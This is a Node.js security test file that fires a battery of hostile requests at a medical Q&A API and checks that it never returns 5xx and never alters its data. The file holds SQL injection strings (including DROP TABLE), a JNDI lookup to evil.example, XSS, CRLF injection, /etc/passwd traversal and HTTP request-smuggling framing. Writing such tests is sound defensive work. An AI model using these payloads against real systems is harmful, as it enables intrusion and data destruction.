// A battery of hostile requests: malformed and deeply nested JSON, invalid
// UTF-8 and NUL bytes in bodies, paths and query values, injection strings
// (SQL, JSON, template, header CRLF) in every field and parameter, forged
// cursors, oversize everything, broken framing over raw sockets. Whatever
// comes in: no 5xx, errors are problem+json, and the data is exactly as it
// was (counts and checksums of every table, from psql, before and after).
// (A request line of another HTTP major version is not input to this API
// but another protocol; owasp.test.mjs checks it gets its 505.)
//
// Writes in the battery are built to be refused (an unknown department, an
// id that names nothing), so a write that slipped through, or a half-done
// one that was not rolled back, shows up in the checksums.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { req, raw, psql } from './lib/medqa.mjs';
import { demoServer, IDS, NO_SUCH_ID, auth, questionInput, rawStatus } from './lib/fixtures.mjs';

let db;
let app;
let editor;
let partner;
let realCursor;
let oldestCursor;
let replyCursor;

const TABLES = ['departments', 'doctors', 'topics', 'questions', 'question_contacts',
  'question_topics', 'replies', 'api_keys', 'idempotency_keys', 'changes', 'audit'];

/** Count and checksum of every table's rows, in one psql round trip.
 * An API key's last_used_at moves with use (at most once a minute, by
 * design), so it is left out of the checksum. */
function snapshot() {
  const row = (t) => (t === 'api_keys' ? `(SELECT x - 'last_used_at' FROM to_jsonb(x) AS x)` : 'x::text');
  const parts = TABLES.map((t) => `'${t}=' || (SELECT count(*) || ':' || coalesce(md5(string_agg(${row(t)}::text, '|' ORDER BY ${row(t)}::text)), '-') FROM ${t} x)`);
  return psql(db, `SELECT ${parts.join(" || E'\\n' || ")}`);
}

const m = demoServer({ keys: { app: 'app', editor: 'editor', partner: 'partner' } });
before(async () => {
  ({ db, keys: { app, editor, partner } } = await m.ready);
  realCursor = (await req(m.base, '/questions?limit=2')).body.next_cursor;
  oldestCursor = (await req(m.base, '/questions?limit=2&sort=oldest')).body.next_cursor;
  replyCursor = (await req(m.base, '/replies?limit=1')).body.next_cursor;
  assert.ok(realCursor && oldestCursor && replyCursor);
});

const INJECTIONS = [
  "' OR '1'='1", "'; DROP TABLE questions; --", "1; SELECT pg_sleep(10) --", '" OR ""="',
  "') OR ('x'='x", '$1', "%' AND 1=1 --", '\\', "\\'", '{"$gt": ""}', '<script>alert(1)</script>',
  '../../../../etc/passwd', '${jndi:ldap://evil.example/x}', '{{7*7}}', 'a\r\nSet-Cookie: x=1',
  '\u0000', 'a\u0000b', '\uFEFF\u202Eevil', '🙂'.repeat(50), 'A'.repeat(5000), '%00', 'NaN', '-0',
  '1e309', 'null', '[]', '\ud800', '*', '_%', ',,,,', ' ', '',
];

const seen = new Set();
const outcomes = { total: 0, byStatus: {}, mhdPages: 0 };
const failures = [];

function record(name, status, ct, text) {
  assert.ok(!seen.has(name), `duplicate request name ${name}`);
  seen.add(name);
  outcomes.total++;
  outcomes.byStatus[status] = (outcomes.byStatus[status] || 0) + 1;
  if (status >= 500 || status === 0) failures.push(`${name}: ${status} ${String(text).slice(0, 160)}`);
  else if (status >= 400 && !/^application\/problem\+json/.test(ct)) failures.push(`${name}: ${status} with ${ct}`);
  else if (/(sqlstate|syntax error at|libpq|jansson|\.c:\d+)/i.test(text)) failures.push(`${name}: leaks internals`);
}

async function send(name, path, opts = {}) {
  const r = await req(m.base, path, { ...opts, contract: false });
  record(name, r.status, r.headers.get('content-type') || '', r.text);
  return r;
}

/** A raw request; libmicrohttpd's own refusals (request lines, headers
 * or lengths it cannot parse or hold) are its HTML page with a 400, 413,
 * 414 or 431: it answers them before medqa sees the request, so they
 * are the only errors medqa cannot dress as problem+json. */
async function sendRaw(name, bytes) {
  const out = await raw(m.port, bytes, { timeoutMs: 3000 });
  const status = rawStatus(out);
  const head = out.split('\r\n\r\n')[0];
  const ct = (/\r\ncontent-type: *([^\r\n]*)/i.exec(head) || [])[1] || '';
  if (status === 0 && out === '') {
    // Closed without a word: allowed for bytes that are not HTTP at all.
    assert.ok(!seen.has(name));
    seen.add(name);
    outcomes.total++;
    outcomes.byStatus.closed = (outcomes.byStatus.closed || 0) + 1;
    return out;
  }
  if ([400, 413, 414, 431].includes(status) && /<html>/i.test(out) && !/problem\+json/.test(ct)) {
    outcomes.mhdPages++;
    record(name, status, 'application/problem+json', out);
  } else {
    record(name, status, ct, out);
  }
  return out;
}

// A lone surrogate has no UTF-8 form: in a URL it goes as the bytes of its
// (invalid) three-byte encoding.
const enc = (v) => (v === '\ud800' ? '%ED%A0%80' : encodeURIComponent(v));
const printable = (s) => /^[\x20-\x7e]*$/.test(s) && s.length < 4000;

test('hostile battery: no 5xx, problems for errors, data unchanged', async () => {
  const before = snapshot();

  // Query values of every filter of GET /questions, and of the other lists.
  const params = ['department', 'topic', 'doctor', 'state', 'language', 'q', 'sort', 'cursor',
    'asked_after', 'asked_before', 'updated_since', 'limit'];
  for (const [i, v] of INJECTIONS.entries()) {
    for (const p of params) await send(`query ${p} #${i}`, `/questions?${p}=${enc(v)}`);
    await send(`replies doctor #${i}`, `/replies?doctor=${enc(v)}`);
    await send(`topics prefix #${i}`, `/topics?prefix=${enc(v)}`);
    await send(`related text #${i}`, `/related?text=${enc(v)}&department=${enc(v)}`);
    await send(`changes cursor #${i}`, `/changes?cursor=${enc(v)}`, { headers: auth(partner) });
    await send(`query name #${i}`, `/questions?${enc(v)}=1`);
    for (const p of ['actor', 'action', 'target', 'since', 'until', 'cursor']) {
      await send(`audit ${p} #${i}`, `/audit?${p}=${enc(v)}`, { headers: auth(editor) });
    }
  }

  // Path parameters.
  for (const [i, v] of INJECTIONS.entries()) {
    const e = enc(v);
    for (const t of ['/questions/', '/replies/', '/topics/', '/doctors/', '/docs/']) await send(`path ${t} #${i}`, t + e);
    await send(`path replies-of #${i}`, `/questions/${e}/replies`);
    await send(`patch question path #${i}`, `/questions/${e}`, { method: 'PATCH', headers: auth(editor), json: { title: 'x' } });
    await send(`delete topic path #${i}`, `/topics/${e}x-no-such`, { method: 'DELETE', headers: auth(editor) });
    // Erasure: a hostile id, or a hostile reason on a real question (the
    // reason is a code; nothing may be erased by any of these).
    await send(`erase question path #${i}`, `/questions/${e}/erasure`, { method: 'POST', headers: auth(editor), json: { reason: 'other' } });
    await send(`erase reply path #${i}`, `/replies/${e}/erasure`, { method: 'POST', headers: auth(editor), json: { reason: 'other' } });
    await send(`erase reason #${i}`, `/questions/${IDS.lip}/erasure`, { method: 'POST', headers: auth(editor), json: { reason: v } });
  }

  // Every string field of a question, a topic and a reply; each body is
  // refused somewhere (unknown department, unknown question).
  const qFields = [['title'], ['body'], ['language'], ['asker', 'name'], ['asker', 'age_band'],
    ['asker', 'gender'], ['department'], ['topics', 0], ['contact_email']];
  for (const [i, v] of INJECTIONS.entries()) {
    for (const f of qFields) {
      const body = questionInput({ department: 'zz-no-such-department' });
      if (f[0] === 'department') body.topics = ['zz-no-such-topic'];
      let o = body;
      for (const k of f.slice(0, -1)) o = o[k];
      o[f[f.length - 1]] = v;
      await send(`question ${f.join('.')} #${i}`, '/questions', { method: 'POST', headers: auth(app), json: body });
    }
    for (const f of ['name', 'description', 'slug']) {
      const body = { name: 'Hostile topic', department: 'zz-no-such-department', [f]: v };
      await send(`topic ${f} #${i}`, '/topics', { method: 'POST', headers: auth(editor), json: body });
    }
    await send(`reply body #${i}`, `/questions/${NO_SUCH_ID}/replies`, { method: 'POST', headers: auth(editor), json: { body: v, kind: 'editorial' } });
    await send(`patch question title #${i}`, `/questions/${NO_SUCH_ID}`, { method: 'PATCH', headers: auth(editor), json: { title: v, asker: { name: v } } });
  }

  // Headers (those a fetch client can send; CRLF and NUL go raw below).
  for (const [i, v] of INJECTIONS.entries()) {
    if (!printable(v)) continue;
    await send(`idempotency-key #${i}`, '/questions', {
      method: 'POST', headers: auth(app, { 'idempotency-key': v }), json: questionInput({ department: 'zz-no-such-department' }),
    });
    await send(`if-none-match #${i}`, `/questions/${IDS.lip}`, { headers: { 'if-none-match': v } });
    await send(`if-match #${i}`, `/questions/${NO_SUCH_ID}`, { method: 'PATCH', headers: auth(editor, { 'if-match': v }), json: { title: 'x' } });
    await send(`authorization #${i}`, '/changes', { headers: { authorization: `Bearer ${v}` } });
    await send(`x-request-id #${i}`, '/healthz', { headers: { 'x-request-id': v } });
    await send(`accept-encoding #${i}`, '/departments', { headers: { 'accept-encoding': v } });
    await send(`origin #${i}`, '/departments', { headers: { origin: v } });
    await send(`content-type #${i}`, '/questions', {
      method: 'POST', headers: auth(app, { 'content-type': v }), body: JSON.stringify(questionInput({ department: 'zz-no-such-department' })),
    });
  }

  // Malformed JSON, invalid UTF-8, NUL bytes, depth and width.
  const post = (name, body, path = '/questions') => send(name, path, {
    method: 'POST', headers: auth(app, { 'content-type': 'application/json' }), body,
  });
  const malformed = ['', '{', '}', '{"a":}', '[1,2', '{"title": "x",}', 'nul', 'tru', '{"a":1}{"b":2}',
    '\uFEFF{}', "{'title': 'x'}", '{"title": NaN}', '{"title": Infinity}', '{"title": 1e99999}',
    '{"title": -}', '{"title": "\\x00"}', '{"title": "\\ud800"}', '{"title": "\\u0000"}', '{"title":"a","title":"b"}',
    '{"asker": {"name": "a", "name": "b"}}', '"just a string"', '42', 'null', '[]', '{"title": 00012}',
    '{"title": "unterminated', '{"title"  "x"}', '{,}', '{"a" : 1,,}', '/* comment */ {}',
    '{"topics": [' + '"a",'.repeat(2000) + '"a"]}', '[' + '1,'.repeat(100000) + '1]',
    '{' + Array.from({ length: 1500 }, (_, k) => `"k${k}":1`).join(',') + '}',
    JSON.stringify(questionInput({ title: 'x'.repeat(200000), department: 'zz-no-such-department' })),
    JSON.stringify(questionInput({ department: 'zz-no-such-department', asker: { name: 'a', age_band: '20-29', gender: 'female', extra: { deep: [1, 2, { x: 3 }] } } }))];
  for (const [i, b] of malformed.entries()) await post(`malformed #${i}`, b);
  for (const depth of [33, 64, 1000, 2049, 100000]) {
    await post(`deep array ${depth}`, '['.repeat(depth) + ']'.repeat(depth));
    await post(`deep object ${depth}`, '{"a":'.repeat(depth) + '1' + '}'.repeat(depth));
    await post(`deep unbalanced ${depth}`, '['.repeat(depth));
  }
  await post('deep inside a string is fine', JSON.stringify(questionInput({ title: '['.repeat(100), department: 'zz-no-such-department' })));
  const bin = (s) => Buffer.from(s, 'latin1');
  for (const [i, bytes] of [
    Buffer.concat([bin('{"title":"'), Buffer.from([0xff, 0xfe, 0xfd]), bin('"}')]),
    Buffer.concat([bin('{"title":"'), Buffer.from([0xc0, 0xaf]), bin('"}')]),
    Buffer.concat([bin('{"title":"'), Buffer.from([0xed, 0xa0, 0x80]), bin('"}')]),
    Buffer.concat([bin('{"title":"a'), Buffer.from([0x00]), bin('b"}')]),
    Buffer.concat([bin('{"ti'), Buffer.from([0x00]), bin('tle":"x"}')]),
    Buffer.from([0x00, 0x00, 0x00, 0x00]),
    Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
    Buffer.from(JSON.stringify(questionInput({ department: 'zz-no-such-department' })), 'utf16le'),
    Buffer.alloc(3000, 0x80),
  ].entries()) await post(`bytes #${i}`, bytes);
  await send('patch merge deep', `/questions/${NO_SUCH_ID}`, {
    method: 'PATCH', headers: auth(editor, { 'content-type': 'application/merge-patch+json' }), body: '{"a":'.repeat(500) + '1' + '}'.repeat(500),
  });

  // Forged, edited and misused cursors.
  const flip = (c, k) => c.slice(0, k) + (c[k] === 'A' ? 'B' : 'A') + c.slice(k + 1);
  const cursors = ['AAAA', 'djE', Buffer.from('{"sort":"newest","keys":["x"]}').toString('base64url'),
    flip(realCursor, realCursor.length - 1), flip(realCursor, 0), flip(realCursor, Math.floor(realCursor.length / 2)),
    realCursor.slice(0, -4), realCursor + realCursor, realCursor + '=', realCursor.replace(/-/g, '+'),
    'x'.repeat(10000), Buffer.from('v1\nnewest\n\n2099-01-01\n' + NO_SUCH_ID).toString('base64url'),
    realCursor.split('').reverse().join(''), `${realCursor}%00`];
  for (const [i, c] of cursors.entries()) {
    await send(`forged cursor #${i}`, `/questions?cursor=${encodeURIComponent(c)}`);
    await send(`forged replies cursor #${i}`, `/replies?cursor=${encodeURIComponent(c)}`);
  }
  await send('cursor of another sort', `/questions?cursor=${encodeURIComponent(oldestCursor)}`);
  await send('cursor of another list', `/questions?cursor=${encodeURIComponent(replyCursor)}`);
  await send('cursor with other filters', `/questions?department=neurology&cursor=${encodeURIComponent(realCursor)}`);
  await send('cursor to changes', `/changes?cursor=${encodeURIComponent(realCursor)}`, { headers: auth(partner) });

  // Raw bytes: framing, request lines and headers a client library would
  // never send.
  const rawReqs = [
    ['NUL in path', 'GET /ques\x00tions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['NUL in query', 'GET /questions?q=a\x00b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['NUL in header', 'GET /questions HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\nConnection: close\r\n\r\n'],
    ['%00 in path', 'GET /questions/%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['%FF in path', 'GET /topics/%FF%FE HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['overlong utf8 in path', 'GET /topics/%C0%AF HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['bad escape in path', 'GET /topics/%ZZ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['bad escape in query', 'GET /questions?q=%ZZ%G HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['invalid utf8 query', 'GET /questions?q=%FF%FE%FD HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['invalid utf8 key', 'GET /questions?%FF=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['dot segments', 'GET /questions/../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['encoded slashes', 'GET /questions/..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['absolute uri', 'GET http://evil.example/questions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['asterisk', 'OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['no host', 'GET /questions HTTP/1.1\r\nConnection: close\r\n\r\n'],
    ['two hosts', 'GET /questions HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n'],
    ['bare LF', 'GET /questions HTTP/1.1\nHost: x\nConnection: close\n\n'],
    ['CRLF injection in value', 'GET /questions HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\rSet-Cookie: x=1\r\nConnection: close\r\n\r\n'],
    ['header without colon', 'GET /questions HTTP/1.1\r\nHost: x\r\nNoColonHere\r\nConnection: close\r\n\r\n'],
    ['obs-fold', 'GET /questions HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\nConnection: close\r\n\r\n'],
    ['space before colon', 'GET /questions HTTP/1.1\r\nHost: x\r\nAuthorization : Bearer x\r\nConnection: close\r\n\r\n'],
    ['HTTP/0.9', 'GET /questions\r\n\r\n'],
    ['lowercase method', 'get /questions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['long method', `${'X'.repeat(5000)} /questions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
    ['space in path', 'GET /ques tions HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['negative length', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\nConnection: close\r\n\r\n'],
    ['plus length', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: +2\r\nConnection: close\r\n\r\n{}'],
    ['hex length', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: 0x2\r\nConnection: close\r\n\r\n{}'],
    ['huge length', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999\r\nConnection: close\r\n\r\n{}'],
    ['length list', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: 2, 2\r\nConnection: close\r\n\r\n{}'],
    ['two lengths', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\nConnection: close\r\n\r\n{} '],
    ['te and cl', 'POST /questions HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n'],
    ['te gzip', 'POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\nConnection: close\r\n\r\n{}'],
    ['te gzip then chunked', 'POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n0\r\n\r\n'],
    ['te chunked twice', 'POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n'],
    ['bad chunk size', 'POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n'],
    ['huge chunk size', 'POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nFFFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n'],
    ['long chunk extension', `POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2;${'e'.repeat(20000)}\r\n{}\r\n0\r\n\r\n`],
    ['chunk trailers', 'POST /questions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n2\r\n{}\r\n0\r\nAuthorization: Bearer x\r\nX-T: y\r\n\r\n'],
    ['url 9k', `GET /questions?q=${'a'.repeat(9000)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
    ['url 200k', `GET /questions?q=${'a'.repeat(200000)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
    ['header 40k', `GET /questions HTTP/1.1\r\nHost: x\r\nX-Pad: ${'p'.repeat(40000)}\r\nConnection: close\r\n\r\n`],
    ['header 300k', `GET /questions HTTP/1.1\r\nHost: x\r\nX-Pad: ${'p'.repeat(300000)}\r\nConnection: close\r\n\r\n`],
    ['500 headers', `GET /questions HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 500 }, (_, k) => `X-${k}: v\r\n`).join('')}Connection: close\r\n\r\n`],
    ['1000 query params', `GET /questions?${Array.from({ length: 1000 }, (_, k) => `p${k}=1`).join('&')} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
    ['repeated limit', 'GET /questions?limit=1&limit=2 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['empty key', 'GET /questions?=1&&& HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['not http', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
    ['garbage line', 'HELLO\r\n\r\n'],
  ];
  for (const [name, text] of rawReqs) await sendRaw(`raw ${name}`, Buffer.from(text, 'latin1'));

  // The server is still well and the data untouched.
  assert.equal((await req(m.base, '/healthz')).status, 200);
  assert.equal((await req(m.base, '/readyz')).status, 200);
  const after = snapshot();
  assert.equal(after, before, 'the data changed');
  assert.deepEqual(failures, [], `${failures.length} bad answers`);
  assert.ok(seen.size >= 150, `only ${seen.size} distinct requests`);
  console.log(`hostile: ${seen.size} distinct requests, statuses ${JSON.stringify(outcomes.byStatus)}, ` +
    `${outcomes.mhdPages} refused by libmicrohttpd itself (HTML page); 5xx: 0`);
});
